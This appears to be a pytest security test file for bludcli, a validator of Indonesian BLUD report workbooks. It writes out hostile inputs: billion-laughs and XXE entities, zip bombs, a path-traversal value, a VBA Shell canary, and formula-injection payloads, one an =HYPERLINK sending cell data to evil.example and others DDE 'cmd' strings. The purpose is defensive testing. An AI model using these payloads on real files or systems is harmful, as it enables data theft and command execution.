"""Hostile inputs: XML entity expansion, external entities, zip bombs, absurd dimensions, huge
strings, confusable unicode, macro workbooks, links and odd folder entries, path traversal,
encrypted containers and formula injection into the reports bludcli writes.

Every case builds its input in tmp_path and runs `bludcli validate` in-process with
BLUDCLI_DEBUG=1, so a defect of bludcli raises (and fails the test) instead of being reported
as an 'internal' unreadable file. Each run puts a valid workbook after the hostile one to show
that the batch goes on.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from bludcli.cli.app import app
from bludcli.samplegen import Layout, make_report, set_cell, write_xlsx

KODE = "PKM03"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
IDENTITAS_PART = "xl/worksheets/sheet1.xml"  # Identitas, as samplegen writes it
LRA_PART = "xl/worksheets/sheet2.xml"
KAPITASI_PART = "xl/worksheets/sheet4.xml"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def debug(monkeypatch):
    monkeypatch.setenv("BLUDCLI_DEBUG", "1")


@pytest.fixture(scope="module")
def valid_xlsx(tmp_path_factory):
    """(path, cellmap) of a valid PKM03 workbook; copy it before changing it."""
    path = tmp_path_factory.mktemp("valid") / "valid.xlsx"
    return path, write_xlsx(make_report(KODE, 2026, 3), Layout(), path)


def copy_valid(valid_xlsx, folder: Path, name: str = "z valid.xlsx") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / name
    shutil.copyfile(valid_xlsx[0], target)
    return target


def run(*args) -> tuple[int, object]:
    result = CliRunner().invoke(app, [*map(str, args)])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result.exit_code, result


def validate_json(*paths, args=()) -> tuple[int, dict, str]:
    code, result = run("validate", *paths, "--format", "json", *args)
    return code, json.loads(result.stdout), result.output


def check_batch(hostile: Path, valid: Path, args=()) -> dict:
    """Validate [hostile, valid]: a verdict for both, the valid one still valid; the hostile record."""
    code, document, _ = validate_json(hostile, valid, args=args)
    records = document["files"]
    assert [r["path"] for r in records] == [str(hostile), str(valid)]
    assert records[1]["status"] == "valid", records[1]
    assert records[0]["status"] in ("valid", "invalid", "unreadable")
    assert code == (0 if records[0]["status"] == "valid" else 1) or records[0]["errors"] == 0
    return records[0]


def assert_unreadable(record: dict) -> dict:
    assert record["status"] == "unreadable", record
    (finding,) = record["findings"]
    assert finding["rule"] == "file.unreadable"
    assert finding["message"]
    assert "bludcli" not in finding["message"], "an internal failure, not an unreadable file"
    return finding


def rewrite_zip(source: Path, target: Path, edits: dict | None = None, extra: dict | None = None) -> None:
    """Copy a zip, member by member; edits[name](bytes) -> bytes; extra members appended."""
    edits, extra = edits or {}, extra or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename in edits:
                data = edits[item.filename](data)
            dst.writestr(item.filename, data)
        for name, data in extra.items():
            dst.writestr(name, data)


# --- XML entities ------------------------------------------------------------------------------

_LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
)
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LAUGHS}]>'.encode()


def _shared_strings_with(kode_xml: bytes, doctype: bytes):
    """Edits that move the Kode BLUD cell to a sharedStrings part holding `kode_xml`."""
    sst = (doctype + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
           b'uniqueCount="1"><si><t>' + kode_xml + b"</t></si></sst>")
    edits = {
        IDENTITAS_PART: lambda d: d.replace(b'<c r="B1" s="2" t="inlineStr"><is><t>PKM03</t></is></c>',
                                            b'<c r="B1" s="2" t="s"><v>0</v></c>'),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
        "[Content_Types].xml": lambda d: d.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
    }
    return edits, {"xl/sharedStrings.xml": sst}


def test_shared_strings_rewrite_is_sound(tmp_path, valid_xlsx):
    """The sharedStrings helper itself yields a valid workbook when nothing hostile is in it."""
    path = tmp_path / "sst.xlsx"
    edits, extra = _shared_strings_with(b"PKM03", b'<?xml version="1.0"?>')
    rewrite_zip(valid_xlsx[0], path, edits, extra)
    assert b't="s"' in zipfile.ZipFile(path).read(IDENTITAS_PART)
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert record["status"] == "valid", record


@pytest.mark.parametrize("where", ["sheet", "sharedStrings"])
def test_billion_laughs_is_not_expanded(tmp_path, valid_xlsx, where):
    path = tmp_path / f"laughs {where}.xlsx"
    if where == "sheet":
        rewrite_zip(valid_xlsx[0], path, {
            IDENTITAS_PART: lambda d: BILLION_LAUGHS + d.replace(b"<t>PKM03</t>", b"<t>&lol9;</t>"),
            LRA_PART: lambda d: BILLION_LAUGHS + d,
        })
    else:
        rewrite_zip(valid_xlsx[0], path, *_shared_strings_with(b"&lol9;", BILLION_LAUGHS))
    started = time.monotonic()
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert time.monotonic() - started < 10
    assert "lollollol" not in json.dumps(record)
    if record["status"] == "unreadable":
        assert_unreadable(record)
    else:  # an entity left unexpanded may only leave the code unknown
        assert record["status"] == "invalid"


@pytest.mark.parametrize("where", ["sheet", "sharedStrings"])
@pytest.mark.parametrize("fmt", ["json", "csv", "table", "xlsx"])
def test_external_entity_never_reads_the_local_file(tmp_path, valid_xlsx, where, fmt):
    secret = tmp_path / "rahasia.txt"
    marker = "RAHASIA-7f3c9e-JANGAN-BOCOR"
    secret.write_text(marker, encoding="utf-8")
    doctype = (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
               f'<!ENTITY % pe SYSTEM "{secret.as_uri()}">]>').encode()
    path = tmp_path / f"xxe {where}.xlsx"
    if where == "sheet":
        rewrite_zip(valid_xlsx[0], path, {
            IDENTITAS_PART: lambda d: doctype + d.replace(b"<t>PKM03</t>", b"<t>&xxe;</t>"),
        })
    else:
        rewrite_zip(valid_xlsx[0], path, *_shared_strings_with(b"&xxe;", doctype))
    valid = copy_valid(valid_xlsx, tmp_path)
    out = tmp_path / "laporan.xlsx"
    args = ["--format", fmt] + (["-o", out] if fmt == "xlsx" else [])
    _, result = run("validate", path, valid, *args)
    assert marker not in result.output
    assert marker not in (result.stderr if result.stderr_bytes is not None else "")
    if fmt == "xlsx":
        book = load_workbook(out)
        for sheet in book.worksheets:
            for row in sheet.iter_rows(values_only=True):
                assert not any(marker in str(v) for v in row if v is not None)
        statuses = [row[1] for row in book.worksheets[1].iter_rows(min_row=2, values_only=True)]
        assert len(statuses) == 2
    if fmt == "json":
        record, after = json.loads(result.stdout)["files"]
        assert after["status"] == "valid"
        if record["status"] == "unreadable":
            assert_unreadable(record)


# --- sizes --------------------------------------------------------------------------------------


def _zip_bomb(valid: Path, path: Path, megabytes: int) -> None:
    """The Kapitasi sheet padded with `megabytes` MB of repeated empty rows, deflated to a few hundred KB."""
    row = b"<row/>" * (1 << 17)  # 768 KB
    with zipfile.ZipFile(valid) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename != KAPITASI_PART:
                dst.writestr(item.filename, data)
                continue
            head, tail = data.split(b"</sheetData>")
            with dst.open(KAPITASI_PART, "w") as member:
                member.write(head)
                for _ in range(megabytes * 4 // 3):
                    member.write(row)
                member.write(b"</sheetData>" + tail)


def test_zip_bomb_is_refused_quickly(tmp_path, valid_xlsx):
    path = tmp_path / "bom.xlsx"
    _zip_bomb(valid_xlsx[0], path, 400)
    assert path.stat().st_size < 2 << 20
    assert zipfile.ZipFile(path).getinfo(KAPITASI_PART).file_size > 300 << 20
    started = time.monotonic()
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert time.monotonic() - started < 5
    assert_unreadable(record)


def test_zip_bomb_lying_about_its_size_is_refused_quickly(tmp_path, valid_xlsx):
    """The same bomb, with the declared uncompressed size patched down to a few KB."""
    honest = tmp_path / "jujur.xlsx"
    _zip_bomb(valid_xlsx[0], honest, 300)
    real = zipfile.ZipFile(honest).getinfo(KAPITASI_PART).file_size
    data = honest.read_bytes()
    packed = real.to_bytes(4, "little")
    assert data.count(packed) == 2  # local header and central directory
    path = tmp_path / "bom bohong.xlsx"
    path.write_bytes(data.replace(packed, (2065).to_bytes(4, "little")))
    started = time.monotonic()
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert time.monotonic() - started < 5
    assert_unreadable(record)


def _claim_dimension(data: bytes, last_row: bool) -> bytes:
    data = re.sub(rb"<dimension[^>]*/>", b"", data)
    data = data.replace(b"<sheetViews>", b'<dimension ref="A1:XFD1048576"/><sheetViews>', 1)
    if last_row:
        data = data.replace(b"</sheetData>",
                            b'<row r="1000000"><c r="A1000000" t="n"><v>1</v></c></row></sheetData>')
    return data


def test_dimension_claiming_a_million_rows_is_not_believed(tmp_path, valid_xlsx):
    path = tmp_path / "dimensi.xlsx"
    rewrite_zip(valid_xlsx[0], path, {KAPITASI_PART: lambda d: _claim_dimension(d, False)})
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert record["status"] == "valid", record


def test_cell_at_row_one_million(tmp_path, valid_xlsx):
    path = tmp_path / "baris sejuta.xlsx"
    rewrite_zip(valid_xlsx[0], path, {KAPITASI_PART: lambda d: _claim_dimension(d, True)})
    started = time.monotonic()
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert time.monotonic() - started < 10
    if record["status"] == "unreadable":
        finding = assert_unreadable(record)
        assert "1000000" in finding["message"]


def test_one_megabyte_string_in_a_cell(tmp_path, valid_xlsx):
    path = tmp_path / "teks besar.xlsx"
    huge = "Puskesmas " + "x" * (1 << 20)
    shutil.copyfile(valid_xlsx[0], path)
    set_cell(path, valid_xlsx[1].identitas.sheet, valid_xlsx[1].identitas["Nama BLUD"], huge)
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert record["status"] in ("valid", "invalid")
    assert any(f["rule"] == "identitas.nama-mismatch" for f in record["findings"]), record["findings"]
    _, result = run("validate", path, "--format", "table")  # the terminal table copes too


# --- unicode -------------------------------------------------------------------------------------


@pytest.mark.parametrize("kode", ["PKM\u200b03", "\u200bPKM03", "PKM03\u200b", "\u202ePKM03", "PKM\u202e30",
                                  "ＰＫＭ０３", "ПКМ03"])
def test_confusable_kode_blud_is_reported_not_accepted(tmp_path, valid_xlsx, kode):
    path = tmp_path / "kode aneh.xlsx"
    shutil.copyfile(valid_xlsx[0], path)
    set_cell(path, valid_xlsx[1].identitas.sheet, valid_xlsx[1].identitas["Kode BLUD"], kode)
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert record["status"] == "invalid", record
    rules = [f["rule"] for f in record["findings"]]
    assert "identitas.kode-unknown" in rules, rules
    # table output with the same file must not crash either
    run("validate", path, "--format", "table")


@pytest.mark.parametrize("text", ["Belanja \u202eaidem\u202c pegawai", "Gaji\u200b\u200d\ufeff", "زكاة 🏥 ✓",
                                  "\u0000\u001b[31mmerah", "e\u0301" * 500])
def test_odd_unicode_in_labels_does_not_crash(tmp_path, valid_xlsx, text):
    path = tmp_path / "label aneh.xlsx"
    cells = valid_xlsx[1]
    shutil.copyfile(valid_xlsx[0], path)
    text = text.replace("\u0000", "").replace("\u001b", "")  # openpyxl refuses control characters
    code_key = next(k for k in cells.lra.rows if isinstance(k, tuple))
    set_cell(path, cells.lra.sheet, cells.lra[(code_key, "uraian")], text)
    set_cell(path, cells.identitas.sheet, cells.identitas["Nama Pemimpin BLUD"], text)
    check_batch(path, copy_valid(valid_xlsx, tmp_path))
    run("validate", path, "--format", "table")
    run("validate", path, "--format", "csv")


# --- macros, links, folders ------------------------------------------------------------------------


def test_xlsm_with_a_vba_project_is_read_not_run(tmp_path, valid_xlsx):
    path = tmp_path / "makro.xlsm"
    canary = tmp_path / "dijalankan.txt"
    vba = OLE_MAGIC + b"\x00" * 504 + f"Shell \"touch {canary}\"".encode() + b"\x00" * 1024
    rewrite_zip(valid_xlsx[0], path, {
        "[Content_Types].xml": lambda d: d.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            b'Target="vbaProject.bin"/></Relationships>'),
    }, {"xl/vbaProject.bin": vba})
    record = check_batch(path, copy_valid(valid_xlsx, tmp_path))
    assert record["status"] == "valid", record
    assert record["kode_blud"] == KODE
    assert not canary.exists()


def test_symlink_and_directory_named_like_a_workbook(tmp_path, valid_xlsx):
    folder = tmp_path / "masuk"
    (folder / "x.xlsx").mkdir(parents=True)
    target = copy_valid(valid_xlsx, tmp_path / "asli", "laporan.xlsx")
    link = folder / "a tautan.xlsx"
    link.symlink_to(target)
    dangling = folder / "b putus.xlsx"
    dangling.symlink_to(tmp_path / "tidak ada.xlsx")
    valid = copy_valid(valid_xlsx, folder)
    code, document, _ = validate_json(folder)
    statuses = {r["path"]: r["status"] for r in document["files"]}
    assert str(folder / "x.xlsx") not in statuses
    assert statuses[str(link)] == "valid"
    assert statuses[str(valid)] == "valid"
    for record in document["files"]:
        if record["status"] == "unreadable":
            assert_unreadable(record)
    # explicitly given: the directory is not a file, the link is followed
    code, result = run("validate", folder / "x.xlsx", link, "--format", "json")
    assert "Traceback" not in result.output


def test_path_traversal_as_kode_blud(tmp_path, valid_xlsx):
    work = tmp_path / "kerja"
    path = copy_valid(valid_xlsx, work, "lintas.xlsx")
    set_cell(path, valid_xlsx[1].identitas.sheet, valid_xlsx[1].identitas["Kode BLUD"], "../../etc/passwd")
    valid = copy_valid(valid_xlsx, work)
    before = {p for p in tmp_path.rglob("*")}
    returns = work / "kembali"
    record = check_batch(path, valid, args=("--return", returns))
    assert record["status"] == "invalid"
    unknown = [f for f in record["findings"] if f["rule"] == "identitas.kode-unknown"]
    assert unknown and unknown[0]["value"] == "../../etc/passwd"
    created = {p for p in tmp_path.rglob("*")} - before
    assert all(p == returns or returns in p.parents for p in created), sorted(map(str, created))
    assert all(".." not in p.name and "passwd" not in p.name for p in created)


def test_encrypted_ole_container(tmp_path, valid_xlsx):
    path = tmp_path / "terkunci.xlsx"
    header = OLE_MAGIC + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 480
    directory = "EncryptedPackage".encode("utf-16-le") + b"\x00" * 96
    directory += "EncryptionInfo".encode("utf-16-le") + b"\x00" * 100
    path.write_bytes(header + b"\x00" * 512 + directory + b"\xab" * 4096)
    finding = assert_unreadable(check_batch(path, copy_valid(valid_xlsx, tmp_path)))
    assert "kata sandi" in finding["message"]


def test_an_empty_file_is_said_to_be_empty(tmp_path, valid_xlsx):
    path = tmp_path / "kosong.xlsx"
    path.write_bytes(b"")
    finding = assert_unreadable(check_batch(path, copy_valid(valid_xlsx, tmp_path)))
    assert "berkas kosong (0 bita)" in finding["message"]


def test_a_text_file_named_xls_is_damaged_with_what_to_do(tmp_path, valid_xlsx):
    path = tmp_path / "bukan.xls"
    path.write_text("Laporan bulan Maret\n", encoding="utf-8")
    finding = assert_unreadable(check_batch(path, copy_valid(valid_xlsx, tmp_path)))
    assert "rusak atau bukan spreadsheet; buka di Excel, simpan ulang sebagai .xlsx" in finding["message"]


# --- formula injection into the reports ------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _injected_workbooks(tmp_path, valid_xlsx) -> list[tuple[Path, str]]:
    made = []
    for i, payload in enumerate(INJECTIONS):
        path = copy_valid(valid_xlsx, tmp_path / "masuk", f"{i} injeksi.xlsx")
        # set_cell would turn '=...' into a formula: write the text as an inline string instead
        escaped = payload.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace("\r", "&#13;")
        replacement = f'<t xml:space="preserve">{escaped}</t>'.encode()
        rewrite_zip(valid_xlsx[0], path, {IDENTITAS_PART: lambda d, r=replacement: d.replace(b"<t>PKM03</t>", r)})
        made.append((path, payload))
    return made


def test_formula_injection_is_neutralised_in_csv_and_xlsx_but_kept_in_json(tmp_path, valid_xlsx):
    made = _injected_workbooks(tmp_path, valid_xlsx)
    valid = copy_valid(valid_xlsx, tmp_path / "masuk", "z valid.xlsx")
    paths = [p for p, _ in made] + [valid]

    _, document, _ = validate_json(*paths)
    records = document["files"]
    assert records[-1]["status"] == "valid"
    for (path, payload), record in zip(made, records):
        assert record["status"] == "invalid"
        values = [f["value"] for f in record["findings"] if f["rule"] == "identitas.kode-unknown"]
        assert values, record["findings"]
        assert values[0] == payload.strip() or values[0] == payload, (values[0], payload)

    _, result = run("validate", *paths, "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    assert {r[header.index("path")] for r in body} == {str(p) for p in paths}
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-?\d+(\.\d+)?", cell), row
    kode_values = [r[header.index("value")] for r in body if r[header.index("rule")] == "identitas.kode-unknown"]
    assert len(kode_values) == len(INJECTIONS)
    assert all(v.startswith("'") for v in kode_values if v.lstrip("'").strip()[:1] in "=+-@")

    out = tmp_path / "keluar" / "temuan.xlsx"
    out.parent.mkdir()
    run("validate", *paths, "--format", "xlsx", "-o", out)
    book = load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), (sheet.title, cell.coordinate, cell.value)
                    seen += cell.value.startswith("'")
    assert seen >= len(INJECTIONS)
